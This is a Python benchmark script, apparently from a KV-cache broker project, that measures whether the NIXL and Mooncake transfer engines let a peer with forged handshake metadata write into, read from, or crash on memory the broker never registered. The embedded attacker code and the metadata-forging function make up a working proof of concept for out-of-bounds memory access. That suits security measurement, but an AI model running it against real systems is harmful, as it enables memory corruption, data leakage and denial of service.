"""What each transfer engine does with a remote region nobody registered: a measurement, not a test.

    scripts/in-netns.sh .venv/bin/python benchmarks/forged_region.py [--out FILE]

For each engine (NIXL with UCX_TLS=tcp, NIXL with UCX's default transports, Mooncake over tcp) a
real decode broker (`kvbroker serve`) registers one engine over a shared-memory segment whose last
64 KiB lie outside every layer buffer (so outside everything the broker registered with its
engine). An attacker of the script's own, a process with a stock engine of the same kind and the
broker's handshake answer (asked as any admitted peer may ask it), then tries in turn:

- `write_outside`: write 4 KiB into the segment's unregistered tail. For NIXL its metadata is
  forged first: the broker's own metadata with one registered region's address and length
  replaced by the target's (the UCX remote key kept). For Mooncake no metadata is forged: the
  destination address is simply the target's.
- `read_outside`: read 4 KiB from that tail, which the script filled with a pattern.
- `write_0x1000`: write 4 KiB at address 0x1000 (unmapped in every process).

After each step: whether the tail changed, whether the attacker read the pattern, and whether the
broker is alive and serving (its exit status if not). JSON on stdout (or --out); a summary on stderr.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import sys
import textwrap
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import grpc  # noqa: E402
from grpc_health.v1 import health_pb2, health_pb2_grpc  # noqa: E402

from kvbroker_client.shm import SharedSegment  # noqa: E402
from kvbroker_client.v1 import broker_service_pb2_grpc as bpb_grpc  # noqa: E402
from kvbroker_client.v1 import peer_service_pb2 as ppb  # noqa: E402
from kvbroker_client.v1 import peer_service_pb2_grpc as ppb_grpc  # noqa: E402
from kvbroker_tools import shapes  # noqa: E402
from kvbroker_tools.launch import start_broker  # noqa: E402

TAIL = 64 << 10
SIZE = 4096
PATTERN = 0x5C
CASES = {
    "nixl-ucx-tcp": ("nixl", {"UCX_TLS": "tcp"}),
    "nixl-ucx-default": ("nixl", {}),
    "mooncake-tcp": ("mooncake", {}),
}

# The attacker: one stock engine, one step, one JSON line. Leaves with os._exit (NIXL's teardown).
ATTACKER = textwrap.dedent('''
    import json, os, sys, time
    import numpy as np
    backend, step, metadata_hex, target = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    size = int(sys.argv[5])
    local = np.full(size, 0xE7, dtype=np.uint8)
    out = {}
    try:
        if backend == "nixl":
            from nixl._api import nixl_agent, nixl_agent_config
            agent = nixl_agent("attacker-%d" % os.getpid(), nixl_agent_config(backends=["UCX"]))
            agent.register_memory([(local.ctypes.data, size, 0, "")], "DRAM")
            name = agent.add_remote_agent(bytes.fromhex(metadata_hex))
            src = agent.get_xfer_descs([(local.ctypes.data, size, 0)], "DRAM")
            dst = agent.get_xfer_descs([(target, size, 0)], "DRAM")
            handle = agent.initialize_xfer("READ" if step.startswith("read") else "WRITE", src, dst, name)
            state = agent.transfer(handle)
            deadline = time.monotonic() + 10
            while state == "PROC" and time.monotonic() < deadline:
                time.sleep(0.01)
                state = agent.check_xfer_state(handle)
            out["engine"] = state
        else:
            from mooncake.engine import TransferEngine
            engine = TransferEngine()
            assert engine.initialize("127.0.0.1", "P2PHANDSHAKE", "tcp", "") == 0
            assert engine.register_memory(local.ctypes.data, size, "*") == 0
            session = bytes.fromhex(metadata_hex).decode()
            call = engine.transfer_sync_read if step.startswith("read") else engine.transfer_sync_write
            out["engine"] = "returned %d" % call(session, local.ctypes.data, target, size)
    except Exception as exc:
        out["engine"] = "%s: %s" % (type(exc).__name__, str(exc)[:300])
    out["read_pattern"] = bool((local == 0x5C).all())
    print(json.dumps(out), flush=True)
    os._exit(0)
''')


def forge_nixl(metadata: bytes, real: int, target: int, size: int) -> bytes:
    """The broker's NIXL metadata with the region that starts at `real` moved to [target, target+size):
    its descriptor's address and length rewritten in place, its remote key (UCX's) kept."""
    at = metadata.find(real.to_bytes(8, "little"))
    if at < 0:
        raise SystemExit(f"no region at {real:#x} in the broker's NIXL metadata")
    return metadata[:at] + target.to_bytes(8, "little") + size.to_bytes(8, "little") + metadata[at + 16:]


async def serving(broker) -> str:
    if broker.process.returncode is not None:
        return f"exited {broker.process.returncode}"
    try:
        async with grpc.aio.insecure_channel(broker.listen) as channel:
            reply = await health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=10)
        return health_pb2.HealthCheckResponse.ServingStatus.Name(reply.status)
    except grpc.aio.AioRpcError as exc:
        await asyncio.sleep(0.5)
        if broker.process.returncode is not None:
            return f"exited {broker.process.returncode}"
        return f"health {exc.code().name}"


async def attack(backend: str, env: dict, step: str, metadata: bytes, target: int) -> dict:
    child = await asyncio.create_subprocess_exec(
        sys.executable, "-c", ATTACKER, backend, step, metadata.hex(), str(target), str(SIZE),
        env={**os.environ, **env}, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    try:
        out, err = await asyncio.wait_for(child.communicate(), 60)
    except TimeoutError:
        child.kill()
        await child.wait()
        return {"engine": "attacker still running after 60 s"}
    lines = out.decode(errors="replace").strip().splitlines()
    if child.returncode or not lines:
        return {"engine": f"attacker exited {child.returncode}: {err.decode(errors='replace')[-300:]}"}
    seen = json.loads(lines[-1])
    said = [line for line in err.decode(errors="replace").splitlines() if line.strip()]
    seen["engine_log"] = said[-1][-240:] if said else ""  # the engine's own last error line, if any
    return seen


async def one_case(case: str) -> dict:
    backend, env = CASES[case]
    shape = shapes.SMALL
    placements = shapes.place_buffers(shape)
    registered = shapes.pool_size(shape, placements) - 4096  # the layer buffers end here
    segment = SharedSegment.create(registered + TAIL, "kvb-forged")
    results: dict = {"case": case}
    broker = await start_broker(f"victim-{case}", "--backend", backend, "--log-level", "WARNING", env=env)
    try:
        async with grpc.aio.insecure_channel(broker.listen) as channel:
            engine_id = f"victim-{os.getpid()}/tp0"
            await bpb_grpc.BrokerServiceStub(channel).RegisterEngine(
                shapes.register_request(engine_id, shape, segment, placements), timeout=30)
        async with grpc.aio.insecure_channel(broker.peer_listen) as channel:
            answer = await ppb_grpc.PeerServiceStub(channel).Handshake(
                ppb.HandshakeRequest(broker_id="attacker", engine_id=engine_id, backend=backend), timeout=30)
        first = min((b for c in answer.engine.components for b in c.layer_buffers), key=lambda b: b.address)
        base = first.address - min(p.offset for p in placements)  # the segment in the broker's address space
        tail = base + registered + TAIL // 2
        results["registered"] = [hex(base), hex(base + registered)]
        results["target"] = hex(tail)
        for step, target in (("write_outside", tail), ("read_outside", tail), ("write_0x1000", 0x1000)):
            segment.array[registered:] = PATTERN
            metadata = answer.backend_metadata
            if backend == "nixl":
                metadata = forge_nixl(metadata, first.address, target, SIZE)
            seen = await attack(backend, env, step, metadata, target)
            at = registered + TAIL // 2
            seen["tail_written"] = bool((segment.array[at:at + SIZE] != PATTERN).any())
            seen["broker"] = await serving(broker)
            results[step] = seen
            print(f"{case:18} {step:14} {json.dumps(seen)}", file=sys.stderr)
            if seen["broker"] != "SERVING":
                break
    finally:
        if broker.process.returncode is None:
            broker.process.kill()
        await broker.process.wait()
        segment.close()
        segment.unlink()
    return results


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path)
    parser.add_argument("--case", choices=sorted(CASES), action="append")
    args = parser.parse_args()
    results = [await one_case(case) for case in (args.case or CASES)]
    text = json.dumps(results, indent=2)
    if args.out:
        args.out.parent.mkdir(parents=True, exist_ok=True)
        args.out.write_text(text + "\n")
    else:
        print(text)


if __name__ == "__main__":
    asyncio.run(main())
